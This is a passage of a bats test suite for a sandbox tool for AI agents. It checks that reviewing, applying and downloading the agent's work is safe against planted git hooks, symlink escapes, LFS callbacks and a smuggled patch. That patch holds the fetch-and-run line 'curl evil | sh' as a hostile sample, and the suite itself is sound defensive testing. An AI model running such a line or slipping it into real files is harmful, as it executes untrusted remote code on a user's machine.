#!/usr/bin/env bats
# The human review commands (README: "Reviewing and accepting the work"): diff, log, apply, merge,
# upload and download. The sandbox's work is made the way an agent makes it
# (litterbox exec, one `exec: ...` commit per call that changes files); its
# effects are checked on the host with git: what lands on the user's branch,
# in the index and in the work tree, what is refused before anything changes,
# and that a conflict leaves git's own cherry-pick state with the sandbox
# intact; an apply takes only what came after the previous one, and no hook
# runs.

# shellcheck disable=SC2154,SC2030,SC2031,SC2016 # bats sets status/output/lines/stderr; each test is a subshell; scripts in single quotes run in the container
bats_require_minimum_version 1.5.0
load helpers

setup_file() { build_helpers; }

# Every test has sandbox $BOX on branch $BRANCH, created from $BASE (HEAD of
# the fixture repository).
setup() {
  common_setup
  BASE=$(git rev-parse HEAD)
  BOX=box
  BRANCH=litterbox/$BOX
  AUTHOR="$BOX (litterbox) <litterbox@localhost>"
}
teardown() { common_teardown; }

# ---------------------------------------------------------------------------
# Helpers

# agent NAME SCRIPT changes the sandbox as an agent would: sh -c SCRIPT through
# litterbox exec, which commits what it changed.
agent() { lb_ok exec "$1" -- sh -c "$2" </dev/null >/dev/null; }

# Subjects of the sandbox's commits, oldest first.
box_subjects() { git log --reverse --format=%s "$BASE..$BRANCH"; }

# no_pick_in_progress: git has no cherry-pick, am or rebase session in the
# repository.
no_pick_in_progress() {
  local p
  for p in rebase-apply CHERRY_PICK_HEAD sequencer; do
    [ ! -e "$(git rev-parse --git-path "$p")" ] || fail "a git session ($p) is in progress"
  done
}

# manifest DIR prints one line per entry below DIR: type, mode, path, and the
# md5 of a file or the target of a symlink (GNU stat on the host).
manifest() {
  (
    cd "$1" || exit 1
    find . -mindepth 1 | LC_ALL=C sort | while IFS= read -r p; do
      if [ -L "$p" ]; then
        echo "l $p -> $(readlink "$p")"
      elif [ -d "$p" ]; then
        echo "d $p"
      else
        echo "f $(stat -c %a "$p") $p $(md5sum <"$p" | cut -d' ' -f1)"
      fi
    done
  )
}

# two_commits: the sandbox changes README.md (1st commit) and adds the
# executable tool.sh and notes/new.txt (2nd commit).
two_commits() {
  create "$BOX"
  agent "$BOX" 'printf "# demo\nfrom the sandbox\n" > README.md'
  agent "$BOX" 'mkdir -p notes && echo new > notes/new.txt && printf "#!/bin/sh\necho tool\n" > tool.sh && chmod 755 tool.sh'
  TIP=$(git rev-parse "$BRANCH")
  assert_equal "$(git rev-list --count "$BASE..$TIP")" 2
}

# ---------------------------------------------------------------------------
# diff and log

@test "diff shows base..litterbox/NAME as a plain git diff; -- --stat and paths pass through" {
  create "$BOX"
  # The user's HEAD moves on after creation: that is not the sandbox's change.
  commit_file host-only.txt "made on the host"
  agent "$BOX" 'echo "sandbox line" >> README.md && echo fresh > fresh.txt && rm src/deep/er/file.txt'
  tip=$(git rev-parse "$BRANCH")

  run --separate-stderr lb diff "$BOX"
  assert_success
  assert_equal "$stderr" ""
  assert_output "$(git diff "$BASE" "$tip")"
  assert_line "+sandbox line"
  assert_line "+++ b/fresh.txt"
  assert_line "--- a/src/deep/er/file.txt"
  refute_output --partial host-only.txt
  # Captured through a pipe, so no colour codes.
  [[ $output != *$'\e'* ]] || fail "diff output has escape codes"

  run --separate-stderr lb diff "$BOX" -- --stat
  assert_success
  assert_output "$(git diff --stat "$BASE" "$tip")"
  assert_line --regexp '^ README\.md +\| +1 \+$'
  assert_line --regexp '^ 3 files changed, 2 insertions\(\+\), 1 deletion\(-\)$'
  [[ $output != *$'\e'* ]] || fail "diff --stat output has escape codes"

  run --separate-stderr lb diff "$BOX" -- README.md
  assert_success
  assert_line "+sandbox line"
  refute_output --partial fresh.txt
  # A path only on the branch (not in the host work tree) needs git's own --.
  run --separate-stderr lb diff "$BOX" -- --stat -- fresh.txt
  assert_success
  assert_line --regexp '^ fresh\.txt +\| +1 \+$'
  refute_output --partial README.md

  # Reviewing changes nothing.
  assert_equal "$(git status --porcelain)" ""
  assert_equal "$(git rev-parse "$BRANCH")" "$tip"
}

@test "diff of a sandbox with no changes prints nothing and succeeds" {
  create "$BOX"
  run --separate-stderr lb diff "$BOX"
  assert_success
  assert_output ""
}

@test "log shows the sandbox's commits since its base (subjects, author); -p adds each diff; extra args pass through" {
  create "$BOX"
  commit_file host-only.txt "made on the host"
  agent "$BOX" 'echo one > one.txt'
  agent "$BOX" 'echo two > two.txt'
  tip=$(git rev-parse "$BRANCH")

  run --separate-stderr lb log "$BOX"
  assert_success
  assert_output "$(git log "$BASE..$tip")"
  assert_line --regexp "^commit $tip\$"
  assert_line "    exec: sh -c 'echo one > one.txt'"
  assert_line "    exec: sh -c 'echo two > two.txt'"
  assert_equal "$(grep -c "^Author: $AUTHOR\$" <<<"$output")" 2
  refute_output --partial "initial commit"
  refute_output --partial "change host-only.txt"
  refute_output --partial "diff --git"
  [[ $output != *$'\e'* ]] || fail "log output has escape codes"

  run --separate-stderr lb log "$BOX" -- --format=%s
  assert_success
  assert_output "$(printf '%s\n' "exec: sh -c 'echo two > two.txt'" "exec: sh -c 'echo one > one.txt'")"

  run --separate-stderr lb log "$BOX" -p
  assert_success
  assert_output "$(git log -p "$BASE..$tip")"
  assert_line "diff --git a/one.txt b/one.txt"
  assert_line "diff --git a/two.txt b/two.txt"
  assert_line "+one"
  assert_equal "$(grep -c '^commit ' <<<"$output")" 2

  # A path only on the branch needs git's own -- after the options.
  run --separate-stderr lb log "$BOX" -p -- --format=%s -- two.txt
  assert_success
  assert_line "exec: sh -c 'echo two > two.txt'"
  refute_output --partial one.txt
}

# ---------------------------------------------------------------------------
# apply

@test "apply onto an unchanged HEAD brings the commits with the sandbox's author and messages, keeps the exec bit and the sandbox" {
  two_commits
  run --separate-stderr lb apply "$BOX"
  refute_hang
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."

  # Same commits (author, message, tree) on the user's branch.
  assert_equal "$(git symbolic-ref --short HEAD)" main
  assert_equal "$(git rev-list --count "$BASE..HEAD")" 2
  assert_equal "$(git log --reverse --format='%an <%ae>|%s' "$BASE..HEAD")" \
    "$(git log --reverse --format='%an <%ae>|%s' "$BASE..$TIP")"
  assert_equal "$(git log -1 --format='%an <%ae>' HEAD)" "$AUTHOR"
  assert_equal "$(git rev-parse 'HEAD^{tree}')" "$(git rev-parse "$TIP^{tree}")"

  # The work tree has the files, tool.sh executable, and nothing is left over.
  assert_equal "$(cat README.md)" "$(printf '# demo\nfrom the sandbox')"
  assert_equal "$(cat notes/new.txt)" new
  assert_equal "$(stat -c %a tool.sh)" 755
  assert_equal "$(git ls-tree HEAD -- tool.sh | cut -d' ' -f1)" 100755
  assert_equal "$(git status --porcelain)" ""
  no_pick_in_progress

  # The sandbox stays, its branch untouched.
  assert_equal "$(list_status "$BOX")" active
  assert_equal "$(git rev-parse "$BRANCH")" "$TIP"
}

@test "apply onto a HEAD that moved with non-conflicting commits keeps both sides' changes; -- args go to git cherry-pick" {
  two_commits
  commit_file host/first.txt "host one"
  commit_file src/main.go "package main // host"
  user=$(git rev-parse HEAD)

  run --separate-stderr lb apply "$BOX" -- --signoff
  refute_hang
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."

  assert_equal "$(git rev-parse HEAD~2)" "$user"
  assert_equal "$(git log --reverse --format=%s "$user..HEAD")" "$(box_subjects)"
  assert_equal "$(git log --format='%an <%ae>' "$user..HEAD" | sort -u)" "$AUTHOR"
  # --signoff reached git cherry-pick: the user signs the commits off.
  assert_equal "$(git log --format=%b "$user..HEAD" | grep -c '^Signed-off-by: Litterbox E2E <e2e@litterbox.invalid>$')" 2
  # Both sides' changes.
  assert_equal "$(cat host/first.txt)" "host one"
  assert_equal "$(cat src/main.go)" "package main // host"
  assert_equal "$(cat README.md)" "$(printf '# demo\nfrom the sandbox')"
  assert_equal "$(cat notes/new.txt)" new
  assert_equal "$(stat -c %a tool.sh)" 755
  assert_equal "$(git status --porcelain)" ""
  assert_equal "$(git rev-parse "$BRANCH")" "$TIP"
}

@test "a conflicting apply exits 1 with git cherry-pick --continue/--abort instructions, leaves git's cherry-pick state, and git cherry-pick --abort restores the user's commit" {
  create "$BOX"
  agent "$BOX" 'echo feature > feature.txt'
  agent "$BOX" 'printf "# sandbox title\n" > README.md'
  tip=$(git rev-parse "$BRANCH")
  commit_file README.md "# host title"
  user=$(git rev-parse HEAD)

  run --separate-stderr lb apply "$BOX"
  refute_hang
  assert_failure 1
  refute_output --partial "Applied"
  assert_stderr --regexp "[Gg]it cherry-pick stopped on a conflict"
  assert_stderr --partial "git cherry-pick --continue"
  assert_stderr --partial "git cherry-pick --abort"

  # git's normal cherry-pick state, conflict marked in the work tree.
  run git status
  assert_output --partial "git cherry-pick --abort"
  assert_line --regexp '^[[:space:]]+both modified: +README\.md$'
  grep -q '^<<<<<<<' README.md || fail "README.md has no conflict markers"
  # The user's commit is intact below the cleanly applied first commit; the
  # sandbox and its branch are untouched.
  assert_equal "$(git rev-parse HEAD^)" "$user"
  assert_equal "$(git log -1 --format=%s HEAD)" "exec: sh -c 'echo feature > feature.txt'"
  assert_equal "$(git rev-parse "$BRANCH")" "$tip"
  assert_equal "$(list_status "$BOX")" active
  assert_equal "$(in_box "$BOX" cat README.md)" "# sandbox title"

  run git cherry-pick --abort
  assert_success
  no_pick_in_progress
  assert_equal "$(git rev-parse HEAD)" "$user"
  assert_equal "$(cat README.md)" "# host title"
  assert_file_not_exists feature.txt
  assert_equal "$(git status --porcelain)" ""
  assert_equal "$(git rev-parse "$BRANCH")" "$tip"
}

@test "apply --squash stages the combined change and makes no commit" {
  two_commits
  run --separate-stderr lb apply "$BOX" --squash
  refute_hang
  assert_success
  assert_line "Staged the combined change of 2 commit(s) from sandbox '$BOX'; review it and commit."

  assert_equal "$(git rev-parse HEAD)" "$BASE"
  no_pick_in_progress
  # Everything is staged, nothing else differs from the index.
  assert_equal "$(git diff --cached "$BASE")" "$(git diff "$BASE" "$TIP")"
  run git diff --cached
  assert_line "+from the sandbox"
  assert_line "new file mode 100755"
  assert_line "+++ b/tool.sh"
  assert_equal "$(git diff)" ""
  assert_equal "$(git status --porcelain | LC_ALL=C sort)" "$(printf 'M  README.md\nA  notes/new.txt\nA  tool.sh' | LC_ALL=C sort)"
  assert_equal "$(git ls-files -s tool.sh | cut -d' ' -f1)" 100755
  assert_equal "$(stat -c %a tool.sh)" 755
  # The user commits it as one change.
  git commit -qm "squashed sandbox work"
  assert_equal "$(git rev-parse 'HEAD^{tree}')" "$(git rev-parse "$TIP^{tree}")"
  assert_equal "$(list_status "$BOX")" active
}

@test "a conflicting apply --squash exits 1, marks the conflict and says to back out with git reset --merge" {
  create "$BOX"
  agent "$BOX" 'printf "# sandbox title\n" > README.md'
  commit_file README.md "# host title"
  user=$(git rev-parse HEAD)

  run --separate-stderr lb apply "$BOX" --squash
  refute_hang
  assert_failure 1
  assert_stderr --partial "does not apply cleanly"
  assert_stderr --partial "git reset --merge"
  assert_equal "$(git rev-parse HEAD)" "$user"
  grep -q '^<<<<<<<' README.md || fail "README.md has no conflict markers"

  git reset -q --merge
  assert_equal "$(cat README.md)" "# host title"
  assert_equal "$(git status --porcelain)" ""
}

# ---------------------------------------------------------------------------
# Refusals before anything changes

@test "apply is refused up front when the index has staged changes" {
  two_commits
  printf 'staged\n' >staged.txt
  git add staged.txt
  printf 'also staged\n' >>src/main.go
  git add src/main.go

  for args in "" --squash; do
    # shellcheck disable=SC2086 # no argument or one
    run --separate-stderr lb apply "$BOX" $args
    refute_hang
    assert_failure 1
    assert_output ""
    assert_stderr --partial "apply needs a clean index"
    assert_stderr --regexp "commit or stash"
  done
  run --separate-stderr lb merge "$BOX"
  assert_failure 1
  assert_stderr --partial "apply needs a clean index"

  # Nothing changed: HEAD, index, work tree, sandbox.
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(git status --porcelain | LC_ALL=C sort)" "$(printf 'A  staged.txt\nM  src/main.go')"
  assert_equal "$(cat README.md)" "# demo"
  assert_file_not_exists tool.sh
  no_pick_in_progress
  assert_equal "$(list_status "$BOX")" active
  assert_equal "$(git rev-parse "$BRANCH")" "$TIP"
}

@test "apply is refused up front, naming the paths, when a file the sandbox changed has uncommitted or untracked changes" {
  two_commits
  printf 'my unsaved edit\n' >>README.md
  run --separate-stderr lb apply "$BOX"
  refute_hang
  assert_failure 1
  assert_output ""
  assert_stderr --partial "README.md"
  assert_stderr --partial "commit or stash"
  refute_stderr --partial "tool.sh"
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(cat README.md)" "$(printf '# demo\nmy unsaved edit')"
  no_pick_in_progress

  # An untracked file where the sandbox adds one is refused too (also by
  # --squash and merge), and so is a path with a space.
  git checkout -q README.md
  printf 'mine\n' >tool.sh
  agent "$BOX" 'echo changed >> "name with space.txt"'
  tip=$(git rev-parse "$BRANCH")
  printf 'dirty\n' >>'name with space.txt'
  for cmd in "apply $BOX" "apply $BOX --squash" "merge $BOX"; do
    # shellcheck disable=SC2086 # split into words
    run --separate-stderr lb $cmd
    refute_hang
    assert_failure 1
    assert_stderr --partial "tool.sh"
    assert_stderr --partial "name with space.txt"
    assert_stderr --partial "commit or stash"
    refute_stderr --partial "README.md"
  done
  assert_equal "$(cat tool.sh)" mine
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(git diff --cached)" ""
  no_pick_in_progress
  assert_equal "$(list_status "$BOX")" active
  assert_equal "$(git rev-parse "$BRANCH")" "$tip"
}

@test "apply is refused up front for an uncommitted change to a sandbox-changed file with a non-ASCII name" {
  printf 'v1\n' >café.txt
  git add café.txt
  git commit -qm "add café"
  BASE=$(git rev-parse HEAD)
  create "$BOX"
  agent "$BOX" 'echo sandbox >> café.txt'
  printf 'my unsaved edit\n' >>café.txt

  run --separate-stderr lb apply "$BOX"
  refute_hang
  assert_failure 1
  assert_stderr --partial "commit or stash"
  refute_stderr --partial "conflict"
  # Refused before git cherry-pick started: no session to clean up.
  no_pick_in_progress
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(cat café.txt)" "$(printf 'v1\nmy unsaved edit')"
}

@test "apply is allowed with unrelated uncommitted and untracked files, and leaves them as they were" {
  two_commits
  printf 'unrelated edit\n' >>src/main.go
  printf 'scratch\n' >scratch.txt
  run --separate-stderr lb apply "$BOX"
  refute_hang
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
  assert_equal "$(git rev-list --count "$BASE..HEAD")" 2
  assert_equal "$(cat README.md)" "$(printf '# demo\nfrom the sandbox')"
  assert_equal "$(tail -n 1 src/main.go)" "unrelated edit"
  assert_equal "$(cat scratch.txt)" scratch
  assert_equal "$(git status --porcelain | LC_ALL=C sort)" "$(printf ' M src/main.go\n?? scratch.txt')"
}

@test "apply, apply --squash and merge of a sandbox with nothing to apply are errors that change nothing" {
  create "$BOX"
  # A change to an ignored file makes no commit.
  agent "$BOX" 'mkdir -p ignored && echo x > ignored/x && echo log > build.log'
  for cmd in "apply $BOX" "apply $BOX --squash" "merge $BOX"; do
    # shellcheck disable=SC2086
    run --separate-stderr lb $cmd
    refute_hang
    assert_failure 1
    assert_output ""
    assert_stderr "Error: Sandbox '$BOX' has no commits since its base; nothing to apply."
  done
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(git status --porcelain)" ""
  assert_equal "$(list_status "$BOX")" active
  branch_exists "$BRANCH"
}

# ---------------------------------------------------------------------------
# merge

@test "merge applies the commits, then deletes the sandbox: container, volume and branch" {
  two_commits
  other=keep-me
  create "$other"
  run --separate-stderr lb merge "$BOX"
  refute_hang
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
  assert_line "Deleted sandbox '$BOX' (its branch was at $TIP)."

  assert_equal "$(git rev-list --count "$BASE..HEAD")" 2
  assert_equal "$(git rev-parse 'HEAD^{tree}')" "$(git rev-parse "$TIP^{tree}")"
  assert_equal "$(git log -1 --format='%an <%ae>' HEAD)" "$AUTHOR"
  assert_equal "$(git status --porcelain)" ""
  # The sandbox is gone, the other one stays.
  assert_equal "$(litterbox_names)" "$other"
  run branch_exists "$BRANCH"
  assert_failure
  run container_exists "$(container_of "$BOX")"
  assert_failure
  run volume_exists "$(volume_of "$BOX")"
  assert_failure
  assert_equal "$(list_status "$other")" active
}

@test "merge --squash stages the change, then deletes the sandbox" {
  two_commits
  run --separate-stderr lb merge "$BOX" --squash
  refute_hang
  assert_success
  assert_line --partial "Staged the combined change of 2 commit(s)"
  assert_line "Deleted sandbox '$BOX' (its branch was at $TIP)."
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(git diff --cached "$BASE")" "$(git diff "$BASE" "$TIP")"
  assert_equal "$(lb_ok list)" "No sandboxes."
  run branch_exists "$BRANCH"
  assert_failure
}

@test "merge that stops on a conflict keeps the sandbox, its container and its branch" {
  create "$BOX"
  agent "$BOX" 'printf "# sandbox title\n" > README.md'
  tip=$(git rev-parse "$BRANCH")
  commit_file README.md "# host title"
  user=$(git rev-parse HEAD)

  run --separate-stderr lb merge "$BOX"
  refute_hang
  assert_failure 1
  refute_output --partial "Deleted"
  assert_stderr --partial "git cherry-pick --continue"
  assert_stderr --partial "git cherry-pick --abort"
  assert_stderr --partial "not deleted"
  run git status
  assert_output --partial "git cherry-pick --abort"

  assert_equal "$(list_status "$BOX")" active
  assert_equal "$(state_of "$(container_of "$BOX")")" running
  volume_exists "$(volume_of "$BOX")"
  assert_equal "$(git rev-parse "$BRANCH")" "$tip"

  git cherry-pick --abort
  assert_equal "$(git rev-parse HEAD)" "$user"
  assert_equal "$(git status --porcelain)" ""
}

# ---------------------------------------------------------------------------
# Incremental apply, messages as text, no hooks

@test "apply, more work on the same file, apply again, merge: each commit lands once and cleanly" {
  create "$BOX"
  agent "$BOX" 'echo one > n.txt'
  agent "$BOX" 'echo two >> n.txt'
  run --separate-stderr lb apply "$BOX"
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
  first=$(git rev-parse "$BRANCH")

  agent "$BOX" 'echo three >> n.txt'
  agent "$BOX" 'echo x > x.txt'
  # diff still shows base..tip, and says on stderr what was applied.
  run --separate-stderr lb diff "$BOX" -- --stat
  assert_success
  assert_output "$(git diff --stat "$BASE" "$BRANCH")"
  assert_stderr --partial "was applied up to ${first:0:12}"
  run --separate-stderr lb apply "$BOX"
  refute_hang
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
  no_pick_in_progress

  agent "$BOX" 'echo four >> n.txt'
  tip=$(git rev-parse "$BRANCH")
  run --separate-stderr lb merge "$BOX"
  refute_hang
  assert_success
  assert_line "Applied 1 commit(s) from sandbox '$BOX'."
  assert_line "Deleted sandbox '$BOX' (its branch was at $tip)."
  no_pick_in_progress

  assert_equal "$(git rev-parse 'HEAD^{tree}')" "$(git rev-parse "$tip^{tree}")"
  assert_equal "$(git log --reverse --format=%s "$BASE..HEAD")" "$(git log --reverse --format=%s "$BASE..$tip")"
  assert_equal "$(git rev-list --count "$BASE..HEAD")" 5
  assert_equal "$(cat n.txt)" "$(printf 'one\ntwo\nthree\nfour')"
  assert_equal "$(git status --porcelain)" ""
  assert_equal "$(git for-each-ref refs/litterbox/)" ""
}

@test "apply twice in a row: the second says nothing new and changes nothing" {
  two_commits
  lb_ok apply "$BOX" >/dev/null
  head=$(git rev-parse HEAD)
  for args in "" "--squash"; do
    # shellcheck disable=SC2086 # no argument or one
    run --separate-stderr lb apply "$BOX" $args
    refute_hang
    assert_success
    assert_output "Nothing new in sandbox '$BOX' since it was applied at ${TIP:0:12}."
  done
  assert_equal "$(git rev-parse HEAD)" "$head"
  assert_equal "$(git status --porcelain)" ""
  run --separate-stderr lb log "$BOX" -- --oneline
  assert_success
  assert_equal "${#lines[@]}" 2
  assert_stderr --partial "nothing new to apply"
}

@test "a patch written into a commit message reaches the host as text, never as files" {
  create "$BOX"
  patch=$'diff --git a/innocent.txt b/innocent.txt\nnew file mode 100644\n--- /dev/null\n+++ b/innocent.txt\n@@ -0,0 +1 @@\n+innocent\ndiff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n'
  agent "$BOX" 'echo "print(2)" > app.py'
  lb_ok milestone "$BOX" -m "Fix the greeting"$'\n\n'"$patch" >/dev/null
  assert_equal "$(lb_ok diff "$BOX" -- --name-only)" app.py

  run --separate-stderr lb apply "$BOX"
  assert_success
  assert_equal "$(git diff --name-only "$BASE" HEAD)" app.py
  assert_file_not_exists innocent.txt
  assert_file_not_exists .envrc
  git log -1 --format=%b HEAD | grep -qx 'diff --git a/.envrc b/.envrc' || fail "the message lost its text"
}

@test "merge runs none of the hooks the branch brings into a core.hooksPath inside the work tree" {
  git config core.hooksPath .githooks
  markers=$BATS_TEST_TMPDIR/markers
  mkdir -p "$markers"
  create "$BOX"
  script='mkdir -p .githooks'
  for h in pre-commit prepare-commit-msg commit-msg post-commit post-checkout post-rewrite post-applypatch reference-transaction post-index-change; do
    script+=" && printf '#!/bin/sh\\ntouch $markers/$h\\n' > .githooks/$h && chmod 755 .githooks/$h"
  done
  agent "$BOX" "$script && echo one > n.txt"
  agent "$BOX" 'echo two >> n.txt'

  run --separate-stderr lb merge "$BOX" --yes
  refute_hang
  assert_success
  assert_line "Applied 2 commit(s) from sandbox '$BOX'."
  assert_equal "$(ls -A "$markers")" ""
  # The hooks are real: the user's own commit runs them.
  git commit -q --allow-empty -m probe
  assert_file_exists "$markers/post-commit"
}

@test "apply asks no LFS server, the branch's .lfsconfig included: a pointer whose object this machine lacks is written as reviewed and named" {
  git lfs install --local >/dev/null
  printf '*.bin filter=lfs diff=lfs merge=lfs -text\n' >.gitattributes
  git add .gitattributes && git commit -qm lfs
  # The agent's LFS server: a listener that notes any connection.
  python3 -c 'import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
print(s.getsockname()[1], flush=True)
s.accept(); open(sys.argv[1], "w").write("contacted")' "$BATS_TEST_TMPDIR/contacted" >"$BATS_TEST_TMPDIR/port" &
  listener=$!
  for _ in $(seq 50); do [ -s "$BATS_TEST_TMPDIR/port" ] && break; sleep 0.1; done
  port=$(cat "$BATS_TEST_TMPDIR/port")
  create "$BOX"
  agent "$BOX" "printf '[lfs]\n\turl = http://127.0.0.1:$port/lfs\n' > .lfsconfig && mkdir -p assets && printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 12\n' $(printf 'ab%.0s' $(seq 32)) > assets/model.bin"

  run --separate-stderr lb apply "$BOX"
  kill "$listener" 2>/dev/null || true
  refute_hang
  assert_success
  assert_line "Applied 1 commit(s) from sandbox '$BOX'."
  assert_line 'Left as the LFS pointers you reviewed, their objects not being on this machine (apply fetches nothing): assets/model.bin. `git lfs pull` fetches them from the LFS server your config and .lfsconfig name.'
  [[ $stderr == *".lfsconfig (the LFS server your git-lfs contacts)"* ]] || fail "stderr: $stderr"
  assert_file_not_exists "$BATS_TEST_TMPDIR/contacted"
  assert_equal "$(cat assets/model.bin)" "$(git show "$BRANCH:assets/model.bin")"
  assert_equal "$(git status --porcelain)" ""
  no_pick_in_progress
}

# ---------------------------------------------------------------------------
# upload and download

@test "upload and download round-trip a directory and an executable, keeping mode 755 both ways" {
  create "$BOX"
  in=$BATS_TEST_TMPDIR/in
  mkdir -p "$in/fixtures/sub/deeper"
  printf 'alpha\n' >"$in/fixtures/a.txt"
  chmod 644 "$in/fixtures/a.txt"
  printf '#!/bin/sh\necho tool\n' >"$in/fixtures/sub/tool.sh"
  chmod 755 "$in/fixtures/sub/tool.sh"
  printf 'deep\n' >"$in/fixtures/sub/deeper/c.txt"
  printf '#!/bin/sh\necho run me\n' >"$in/run-me"
  chmod 755 "$in/run-me"
  # DEST already holds a file: the uploaded directory's contents merge in.
  agent "$BOX" 'mkdir -p tests/fixtures && echo keep > tests/fixtures/existing.txt'
  before=$(git rev-parse "$BRANCH")

  run --separate-stderr lb upload "$BOX" "$in/fixtures" tests/fixtures
  assert_success
  assert_line "Uploaded $in/fixtures to tests/fixtures."
  assert_equal "$(git rev-list --count "$before..$BRANCH")" 1
  assert_equal "$(git log -1 --format='%s|%an <%ae>' "$BRANCH")" "upload: tests/fixtures|$AUTHOR"
  assert_equal "$(git ls-tree -r "$BRANCH" -- tests/fixtures)" "$(printf '%s\n' \
    $'100644 blob '"$(git hash-object "$in/fixtures/a.txt")"$'\ttests/fixtures/a.txt' \
    $'100644 blob '"$(git rev-parse "$before:tests/fixtures/existing.txt")"$'\ttests/fixtures/existing.txt' \
    $'100644 blob '"$(git hash-object "$in/fixtures/sub/deeper/c.txt")"$'\ttests/fixtures/sub/deeper/c.txt' \
    $'100755 blob '"$(git hash-object "$in/fixtures/sub/tool.sh")"$'\ttests/fixtures/sub/tool.sh')"
  assert_equal "$(in_box "$BOX" stat -c %a tests/fixtures/sub/tool.sh)" 755
  assert_equal "$(in_box "$BOX" stat -c %a tests/fixtures/a.txt)" 644
  assert_equal "$(in_box "$BOX" stat -c %u:%g tests/fixtures/sub/tool.sh)" 1000:1000
  assert_equal "$(in_box "$BOX" sh tests/fixtures/sub/tool.sh)" tool

  # A single file, to an absolute path under /src: that exact path.
  run --separate-stderr lb upload "$BOX" "$in/run-me" /src/scripts/run-me
  assert_success
  assert_equal "$(git log -1 --format=%s "$BRANCH")" "upload: scripts/run-me"
  assert_equal "$(git ls-tree "$BRANCH" -- scripts/run-me | cut -d' ' -f1)" 100755
  assert_equal "$(in_box "$BOX" stat -c %a scripts/run-me)" 755

  # Back out: the directory, then the file, each to the exact DEST path.
  out=$BATS_TEST_TMPDIR/out
  mkdir -p "$out"
  run --separate-stderr lb download "$BOX" tests/fixtures "$out/fx"
  assert_success
  assert_line --regexp "^Downloaded tests/fixtures to $out/fx \([0-9]+ entries\)\.\$"
  cp "$out/fx/existing.txt" "$in/fixtures/existing.txt"
  assert_equal "$(manifest "$out/fx")" "$(manifest "$in/fixtures")"
  assert_equal "$(stat -c %a "$out/fx/sub/tool.sh")" 755
  assert_equal "$(stat -c %a "$out/fx/a.txt")" 644
  assert_equal "$(cat "$out/fx/existing.txt")" keep

  run --separate-stderr lb download "$BOX" /src/scripts/run-me "$out/run-me.copy"
  assert_success
  cmp "$in/run-me" "$out/run-me.copy"
  assert_equal "$(stat -c %a "$out/run-me.copy")" 755
  assert_equal "$(cd "$out" && ls -A)" "$(printf 'fx\nrun-me.copy')"

  # The user's work tree, index and HEAD are untouched.
  assert_equal "$(git rev-parse HEAD)" "$BASE"
  assert_equal "$(git status --porcelain)" ""
}

@test "download copies symlinks pointing outside DEST as links, never follows them, and creates nothing outside DEST" {
  create "$BOX"
  # Enough ../ to climb to / from anywhere, so the links name /tmp/<unique>
  # both in the container and on the host.
  ups=$(printf '../%.0s' $(seq 32))
  missing=lbe2e-esc-$(rand_hex)
  existing=lbe2e-esc-$(rand_hex)
  TEST_DIRS+=("/tmp/$missing" "/tmp/$existing")
  mkdir "/tmp/$existing"
  agent "$BOX" "mkdir -p out/sub && echo data > out/sub/f.txt && ln -s '${ups}tmp/$missing' out/sub/escape && ln -s '${ups}tmp/$existing' out/into && ln -s '../../../../tmp/$missing' out/short"
  out=$BATS_TEST_TMPDIR/dl
  mkdir -p "$out"

  run --separate-stderr lb download "$BOX" out "$out/got"
  assert_success
  assert_link_exists "$out/got/sub/escape"
  assert_equal "$(readlink "$out/got/sub/escape")" "${ups}tmp/$missing"
  assert_link_exists "$out/got/into"
  assert_equal "$(readlink "$out/got/into")" "${ups}tmp/$existing"
  assert_equal "$(readlink "$out/got/short")" "../../../../tmp/$missing"
  assert_equal "$(cat "$out/got/sub/f.txt")" data
  # Nothing outside DEST.
  assert_file_not_exists "/tmp/$missing"
  assert_equal "$(ls -A "/tmp/$existing")" ""
  assert_equal "$(ls -A "$out")" got

  # A symlink as SRC itself is copied as a link too.
  run --separate-stderr lb download "$BOX" out/into "$out/link"
  assert_success
  assert_link_exists "$out/link"
  assert_equal "$(readlink "$out/link")" "${ups}tmp/$existing"
  assert_equal "$(ls -A "/tmp/$existing")" ""
}

@test "download refuses, saying why, to write through a symlink an earlier download left inside DEST" {
  create "$BOX"
  ups=$(printf '../%.0s' $(seq 32))
  target=lbe2e-esc-$(rand_hex)
  TEST_DIRS+=("/tmp/$target")
  mkdir "/tmp/$target"
  chmod 700 "/tmp/$target"
  out=$BATS_TEST_TMPDIR/dl
  mkdir -p "$out"
  agent "$BOX" "mkdir -p w && echo ok > w/ok.txt && ln -s '${ups}tmp/$target' w/sub"
  lb_ok download "$BOX" w "$out/w" >/dev/null
  assert_link_exists "$out/w/sub"
  # The sandbox turns the link into a directory of mode 777 with a file;
  # downloading to the same DEST again must neither follow the old link out
  # of DEST nor chmod what it points to, and must change nothing first.
  agent "$BOX" 'rm w/sub && mkdir w/sub && chmod 777 w/sub && echo planted > w/sub/planted.txt && echo new > w/ok.txt'

  run --separate-stderr lb download "$BOX" w "$out/w"
  refute_hang
  assert_failure 1
  assert_equal "$(ls -A "/tmp/$target")" ""
  assert_equal "$(stat -c %a "/tmp/$target")" 700
  assert_equal "$(cat "$out/w/ok.txt")" ok
  assert_stderr --partial "\"$out/w/sub\" is a symlink on the host; remove it, or download to a new DEST"
}

@test "a second download to a DEST that an earlier download made a symlink does not write through it" {
  create "$BOX"
  ups=$(printf '../%.0s' $(seq 32))
  target=lbe2e-esc-$(rand_hex)
  TEST_DIRS+=("/tmp/$target")
  mkdir "/tmp/$target"
  chmod 755 "/tmp/$target"
  out=$BATS_TEST_TMPDIR/dl
  mkdir -p "$out"
  agent "$BOX" "ln -s '${ups}tmp/$target' out"
  lb_ok download "$BOX" out "$out/out" >/dev/null
  assert_link_exists "$out/out"
